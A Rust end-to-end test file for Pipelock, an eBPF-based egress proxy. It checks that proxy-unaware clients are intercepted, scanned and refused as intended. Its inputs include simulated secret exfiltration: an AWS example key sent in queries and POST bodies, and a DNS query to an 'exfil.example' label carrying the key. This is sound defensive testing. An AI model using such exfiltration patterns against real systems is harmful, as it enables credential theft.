//! The bypass matrix of issue #5 with every real part: `pipelock run` with `intercept.cgroups`
//! attaches the real eBPF programs to a fresh cgroup v2, and clients inside it that know
//! nothing of any proxy (curl without proxy variables, Ruby Net::HTTP and HTTParty, Python
//! urllib, bash's /dev/tcp) go through Pipelock anyway: secrets are refused before the origin,
//! clean bytes arrive unchanged, the application sees the address it dialled, non-HTTP TCP and
//! other UDP are refused, DNS is scanned, the kill switch stops connects in the kernel, a dead
//! Pipelock fails closed, and `pipelock detach` restores direct connections.
//!
//! Needs root; fails (never skips) when it cannot run. Origins live on 127.0.0.2, 127.0.0.3
//! and ::1; every client has a timeout.

#[path = "ebpf_intercept/support.rs"]
#[allow(dead_code)]
mod support;

use std::net::{Ipv4Addr, TcpListener};
use std::path::Path;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use pipelock_e2e::dns_upstream::{query, DnsUpstream};
use pipelock_e2e::upstream::{pattern_bytes, TestPki, Upstream};
use pipelock_e2e::{describe, free_port, pipelock_command, run_with_timeout, Pipelock};
use support::{require_root, ChildCgroup, Mount, CLIENT_TIMEOUT};

const AWS_KEY: &str = "AKIAIOSFODNN7EXAMPLE";
const TOKEN: &str = "transparent-test-token";

/// `program` started inside `cgroup`: `sh` moves itself into the cgroup, then execs it, so
/// every socket the program makes is the cgroup's.
fn in_cgroup(cgroup: &Path, program: &std::ffi::OsStr) -> Command {
    let mut command = Command::new("sh");
    command
        .arg("-c")
        .arg(format!(
            "echo $$ > '{}/cgroup.procs' && exec \"$@\"",
            cgroup.display()
        ))
        .arg("sh")
        .arg(program);
    command
}

/// Runs `program args…` inside `cgroup` with no proxy variable in its environment.
fn inside(cgroup: &Path, program: &str, args: &[&str]) -> Output {
    let mut command = in_cgroup(cgroup, program.as_ref());
    command.args(args);
    for var in [
        "http_proxy",
        "https_proxy",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "all_proxy",
        "ALL_PROXY",
    ] {
        command.env_remove(var);
    }
    run_with_timeout(command, None, CLIENT_TIMEOUT).expect("client runs")
}

/// `pipelock detach` of `cgroup` under `pin_root`, which must succeed.
fn detach(cgroup: &Path, pin_root: &Path) {
    let mut command = pipelock_command();
    command
        .args(["detach", "--cgroup"])
        .arg(cgroup)
        .arg("--pin-path")
        .arg(pin_root);
    let output = run_with_timeout(command, None, CLIENT_TIMEOUT).expect("detach");
    assert!(output.status.success(), "{}", describe(&output));
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).to_string()
}

/// A TCP server that counts the connections it accepts (and answers nothing).
fn counting_server(ip: &str) -> (std::net::SocketAddr, Arc<AtomicUsize>) {
    let listener = TcpListener::bind((ip, 0)).expect("bind");
    let addr = listener.local_addr().expect("addr");
    let count = Arc::new(AtomicUsize::new(0));
    let seen = Arc::clone(&count);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            seen.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (addr, count)
}

#[test]
fn clients_that_ignore_proxies_are_scanned_in_the_kernel_path() {
    require_root();
    let cgroups = Mount::cgroup2();
    let bpffs = Mount::bpffs();
    let app = ChildCgroup::new(cgroups.path(), "transparent-app");
    let pin_root = bpffs.path().join("pipelock");
    let origin = Upstream::start_on("127.0.0.2").expect("origin on 127.0.0.2");
    let origin6 = Upstream::start_on("::1").expect("origin on ::1");
    let (raw, raw_connections) = counting_server("127.0.0.3");
    let pki = TestPki::new().expect("test CA");
    let tls_origin = Upstream::start_tls(&pki).expect("TLS origin on 127.0.0.1");
    let resolver = DnsUpstream::start(Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 9))
        .expect("resolver");
    let transparent_port = free_port().expect("port");
    let dns_port = free_port().expect("port");
    let yaml = format!(
        "version: 1\nforward_proxy:\n  enabled: true\nssrf:\n  ip_allowlist: [\"127.0.0.0/8\", \"::1/128\"]\nrequest_body_scanning:\n  action: block\ntrusted_domains: [\"localhost\"]\nkill_switch:\n  api_token: {TOKEN}\nintercept:\n  cgroups: [\"{}\"]\n  transparent_port: {transparent_port}\n  dns_port: {dns_port}\n  dns_upstream: \"{}\"\n  pin_path: \"{}\"\n",
        app.path.display(),
        resolver.addr,
        pin_root.display()
    );
    let (mut pipelock, dir) =
        Pipelock::start_with_yaml(&yaml).expect("pipelock starts and attaches");
    let proxy = format!("http://{}", pipelock.addr);
    let cg = app.path.as_path();

    // curl without any proxy variable: clean traffic arrives, byte for byte.
    let output = inside(cg, "curl", &["-sS", "-m", "10", &origin.url("/clean")]);
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    let file = dir.path().join("download.bin");
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-m",
            "20",
            "-o",
            file.to_str().expect("utf-8"),
            &origin.url("/bytes/10485760"),
        ],
    );
    assert!(output.status.success(), "{}", describe(&output));
    assert!(
        std::fs::read(&file).expect("download") == pattern_bytes(10_485_760),
        "10 MiB through the transparent path differ"
    );
    // A secret in the query or the body is refused before the origin.
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-m",
            "10",
            "-w",
            "\n%{http_code}",
            &origin.url(&format!("/echo?key={AWS_KEY}")),
        ],
    );
    assert!(stdout(&output).ends_with("\n403"), "{}", describe(&output));
    assert!(
        stdout(&output).contains("dlp.aws_access_key_id"),
        "{}",
        describe(&output)
    );
    let body = format!("{{\"note\":\"my key is {AWS_KEY}\"}}");
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-m",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "-H",
            "Content-Type: application/json",
            "--data-binary",
            &body,
            &origin.url("/echo"),
        ],
    );
    assert_eq!(stdout(&output), "403", "{}", describe(&output));

    // Ruby Net::HTTP and HTTParty, Python urllib, bash /dev/tcp: all through Pipelock.
    let url = origin.url("/clean");
    let output = inside(
        cg,
        "ruby",
        &[
            "-rnet/http",
            "-e",
            &format!("print Net::HTTP.get(URI({url:?}))"),
        ],
    );
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    let output = inside(
        cg,
        "ruby",
        &[
            "-rhttparty",
            "-e",
            &format!("r = HTTParty.get({url:?}); print r.code, ' ', r.body"),
        ],
    );
    assert_eq!(
        stdout(&output),
        "200 all good here\n",
        "{}",
        describe(&output)
    );
    let secret_post = format!(
        "r = HTTParty.post({:?}, body: {{ token: {AWS_KEY:?} }}); print r.code",
        origin.url("/echo")
    );
    let output = inside(cg, "ruby", &["-rhttparty", "-e", &secret_post]);
    assert_eq!(stdout(&output), "403", "{}", describe(&output));
    let output = inside(cg, "python3", &["-c", &format!("import urllib.request; print(urllib.request.urlopen({url:?}, timeout=10).read().decode(), end='')")]);
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    let port = origin.addr.port();
    let output = inside(cg, "bash", &["-c", &format!("exec 3<>/dev/tcp/127.0.0.2/{port}; printf 'GET /clean HTTP/1.1\\r\\nHost: 127.0.0.2:{port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 10 cat <&3")]);
    assert!(
        stdout(&output).starts_with("HTTP/1.1 200"),
        "{}",
        describe(&output)
    );
    assert!(
        stdout(&output).ends_with("all good here\n"),
        "{}",
        describe(&output)
    );
    // IPv6, and the address the application sees.
    let output = inside(
        cg,
        "curl",
        &["-sS", "-m", "10", "-g", &origin6.url("/clean")],
    );
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    let output = inside(cg, "python3", &["-c", &format!("import socket; s = socket.create_connection(('127.0.0.2', {port}), timeout=10); print(s.getpeername())")]);
    assert_eq!(
        stdout(&output).trim(),
        format!("('127.0.0.2', {port})"),
        "{}",
        describe(&output)
    );
    assert!(
        !origin
            .seen()
            .iter()
            .any(|s| s.target.contains(AWS_KEY)
                || String::from_utf8_lossy(&s.body).contains(AWS_KEY)),
        "a secret reached the origin"
    );

    // HTTPS without interception: SNI checks, then an opaque relay to the address dialled
    // (the test certificate names `localhost`, an internal name that `trusted_domains` lets
    // through because it resolves to the loopback address dialled).
    let ca = pipelock_e2e::write_file(dir.path(), "origin-ca.pem", &pki.ca_pem).expect("CA file");
    let https = format!("https://localhost:{}/clean", tls_origin.addr.port());
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-4",
            "-m",
            "10",
            "--cacert",
            ca.to_str().expect("utf-8"),
            &https,
        ],
    );
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));

    // Non-HTTP TCP to an unlisted destination is closed; it never reaches the server.
    let output = inside(cg, "python3", &["-c", &format!("import socket\ns = socket.create_connection(('127.0.0.3', {}), timeout=10)\ns.sendall(b'\\x00\\x01binary protocol')\nprint(repr(s.recv(100)))", raw.port())]);
    assert!(
        stdout(&output).contains("b''") || !output.status.success(),
        "{}",
        describe(&output)
    );
    assert_eq!(
        raw_connections.load(Ordering::SeqCst),
        0,
        "the raw server was reached"
    );
    // UDP other than DNS is refused by the kernel.
    let output = inside(cg, "python3", &["-c", "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.3', 9999)); print('sent')\nexcept PermissionError: print('EPERM')"]);
    assert_eq!(stdout(&output).trim(), "EPERM", "{}", describe(&output));

    // DNS: any resolver address on port 53 reaches Pipelock's DNS listener; a clean name is
    // answered by the configured resolver, a secret-bearing one is REFUSED.
    let dns = |name: &str| {
        let hex: String = query(0x4242, name, 1)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let script = format!("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\ns.sendto(bytes.fromhex('{hex}'), ('127.0.0.5', 53))\ndata, src = s.recvfrom(512)\nprint(data[3] & 15, src)");
        stdout(&inside(cg, "python3", &["-c", &script]))
    };
    assert_eq!(
        dns("api.openai.com").trim(),
        "0 ('127.0.0.5', 53)",
        "clean name answered, from the address dialled"
    );
    let before = resolver.received().len();
    assert!(
        dns(&format!("{AWS_KEY}.exfil.example")).starts_with("5 "),
        "a secret label is REFUSED"
    );
    assert_eq!(
        resolver.received().len(),
        before,
        "the refused query reached the resolver"
    );

    // The kill switch stops new connects in the kernel within one second, and releases.
    let api = |active: bool| {
        let output = pipelock_e2e::curl(&[
            "-sS",
            "-H",
            &format!("Authorization: Bearer {TOKEN}"),
            "--data-binary",
            &format!("{{\"active\": {active}}}"),
            &format!("{proxy}/api/v1/killswitch"),
        ])
        .expect("curl");
        assert!(output.status.success(), "{}", describe(&output));
    };
    let thrown = Instant::now();
    api(true);
    let output = inside(cg, "python3", &["-c", &format!("import socket, time\nstart = time.monotonic()\nwhile True:\n    try:\n        socket.create_connection(('127.0.0.2', {port}), timeout=2).close()\n    except PermissionError:\n        print('EPERM'); break\n    if time.monotonic() - start > 3: print('still connecting'); break\n    time.sleep(0.01)")]);
    assert_eq!(stdout(&output).trim(), "EPERM", "{}", describe(&output));
    assert!(
        thrown.elapsed() < Duration::from_secs(1),
        "took {:?}",
        thrown.elapsed()
    );
    api(false);
    let output = inside(cg, "curl", &["-sS", "-m", "10", &origin.url("/clean")]);
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    let (_, metrics) =
        pipelock_e2e::curl_status_body(&[], &format!("{proxy}/metrics")).expect("metrics");
    assert!(
        metrics.contains(r#"pipelock_intercept_denied_total{reason="kill_switch""#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"pipelock_intercept_denied_total{reason="udp_not_allowed""#),
        "{metrics}"
    );

    // A dead Pipelock fails closed: the links stay pinned, connects hit a closed port.
    pipelock.signal(libc::SIGKILL).expect("SIGKILL");
    let _ = pipelock.wait_exit(Duration::from_secs(5));
    let seen = origin.seen().len();
    let output = inside(cg, "curl", &["-sS", "-m", "5", &origin.url("/clean")]);
    assert!(
        !output.status.success(),
        "a connect escaped: {}",
        describe(&output)
    );
    assert_eq!(origin.seen().len(), seen);

    // `pipelock detach` restores direct connections (the origin now sees the client itself).
    detach(&app.path, &pin_root);
    let output = inside(
        cg,
        "curl",
        &["-sS", "-m", "10", &origin.url("/clean?direct")],
    );
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    let direct = origin.seen();
    let last = direct.last().expect("a request");
    assert!(last.target.ends_with("?direct"));
    assert!(
        last.headers
            .iter()
            .any(|(n, v)| n.eq_ignore_ascii_case("user-agent") && v.starts_with("curl/")),
        "{last:?}"
    );
}

#[test]
fn pipelock_inside_the_attached_cgroup_is_not_redirected_to_itself() {
    require_root();
    let cgroups = Mount::cgroup2();
    let bpffs = Mount::bpffs();
    let app = ChildCgroup::new(cgroups.path(), "transparent-self");
    let pin_root = bpffs.path().join("pipelock");
    let origin = Upstream::start_on("127.0.0.2").expect("origin on 127.0.0.2");
    let resolver = DnsUpstream::start(Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 9))
        .expect("resolver");
    let yaml = format!(
        "version: 1\nforward_proxy:\n  enabled: true\nssrf:\n  ip_allowlist: [\"127.0.0.0/8\"]\nintercept:\n  transparent_port: {}\n  dns_port: {}\n  dns_upstream: \"{}\"\n  pin_path: \"{}\"\nmcp_reverse_proxy:\n  enabled: true\n  listen: \"127.0.0.1:0\"\n  upstream: \"{}\"\n  auth_token: \"mcp-test-token\"\n",
        free_port().expect("port"),
        free_port().expect("port"),
        resolver.addr,
        pin_root.display(),
        origin.url("/mcp"),
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let config = pipelock_e2e::write_file(dir.path(), "pipelock.yaml", &yaml).expect("config");
    // `pipelock attach`, started from inside the cgroup it attaches to.
    let mut command = in_cgroup(&app.path, pipelock_e2e::pipelock_bin().as_os_str());
    command
        .args(["attach", "--cgroup"])
        .arg(&app.path)
        .arg("--config")
        .arg(&config)
        .args(["--listen", "127.0.0.1:0"]);
    let mut pipelock = Pipelock::spawn(command).expect("pipelock attach starts");
    let mcp = pipelock
        .wait_for_listener("mcp", Duration::from_secs(10))
        .expect("the MCP listener");
    let cg = app.path.as_path();
    let output = inside(cg, "curl", &["-sS", "-m", "10", &origin.url("/clean")]);
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    // Through the forward proxy too (its upstream socket is in the cgroup, and marked).
    let proxy = format!("http://{}", pipelock.addr);
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-m",
            "10",
            "-x",
            &proxy,
            &origin.url("/clean?proxied"),
        ],
    );
    assert_eq!(stdout(&output), "all good here\n", "{}", describe(&output));
    assert_eq!(
        origin.connections(),
        1,
        "one pooled connection, no loop through the listener"
    );
    // An agent in the cgroup calling the MCP reverse proxy is served by that listener (the
    // token check answers), not relayed to it as an origin.
    let own_before = own_listener_connections(&pipelock);
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-m",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code} %header{www-authenticate}",
            "-H",
            "content-type: application/json",
            "--data-binary",
            r#"{"jsonrpc":"2.0","id":1,"method":"ping"}"#,
            &format!("http://{mcp}/mcp"),
        ],
    );
    assert_eq!(
        stdout(&output),
        "401 Bearer realm=\"pipelock-mcp\"",
        "{}",
        describe(&output)
    );
    assert_eq!(
        own_listener_connections(&pipelock),
        own_before + 1,
        "the MCP listener was not served as Pipelock's own"
    );
    let status = inside(
        cg,
        "cat",
        &[&format!("{}/cgroup.procs", app.path.display())],
    );
    assert!(
        stdout(&status)
            .lines()
            .any(|pid| pid.trim() == pipelock.pid().to_string()),
        "pipelock runs inside the cgroup: {}",
        stdout(&status)
    );
    // Detached while it still runs (and holds the links): connects go direct at once, so
    // even a secret now reaches the origin unscanned.
    detach(&app.path, &pin_root);
    let output = inside(
        cg,
        "curl",
        &[
            "-sS",
            "-m",
            "10",
            &origin.url(&format!("/echo?key={AWS_KEY}")),
        ],
    );
    assert!(output.status.success(), "{}", describe(&output));
    assert!(
        origin.seen().iter().any(|s| s.target.contains(AWS_KEY)),
        "the request did not go direct after detach"
    );
    drop(pipelock);
}

/// `pipelock_transparent_connections_total{route="own_listener"}` of `pipelock`.
fn own_listener_connections(pipelock: &Pipelock) -> u64 {
    let (status, body) =
        pipelock_e2e::curl_status_body(&[], &format!("{}/metrics", pipelock.base_url()))
            .expect("metrics");
    assert_eq!(status, 200, "{body}");
    body.lines()
        .find(|l| {
            l.starts_with("pipelock_transparent_connections_total{")
                && l.contains("route=\"own_listener\"")
        })
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|n| n.parse::<f64>().ok())
        .map_or(0, |n| n as u64)
}
